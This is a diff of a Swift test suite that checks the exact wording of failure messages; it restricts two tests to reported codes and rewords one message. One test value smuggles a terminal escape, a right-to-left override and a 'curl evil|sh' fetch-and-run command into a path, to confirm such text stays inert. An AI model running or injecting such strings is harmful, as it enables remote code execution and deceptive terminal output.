@@ -5,7 +5,7 @@ import Testing
 
 /// The exact words of every failure. A new code does not compile here until its words are written down.
 @Suite struct FailureWordsTests {
-    @Test(arguments: Failure.Code.allCases)
+    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
     func everyCodeHasItsWords(code: Failure.Code) throws {
         let place = try #require(Self.place(of: code))
         #expect(Failure(code, at: place).sentence == Self.expected(code))
@@ -36,7 +36,7 @@ import Testing
     }
 
     /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
-    @Test(arguments: Failure.Code.allCases)
+    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
     func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
         let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
         let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
@@ -270,7 +270,7 @@ import Testing
             "restart a.service: its job was skipped, for it did not fit what the unit did by then; "
                 + "see why: systemctl status a.service"
         case .noSecret:
-            #"client "web": there is no secret yet; clientsecretd renew web"#
+            #"client "web": there is no usable secret; clientsecretd renew web"#
         case .secretExpired:
             #"client "web": the secret has expired; clientsecretd renew web"#
         case .secretExpiring:
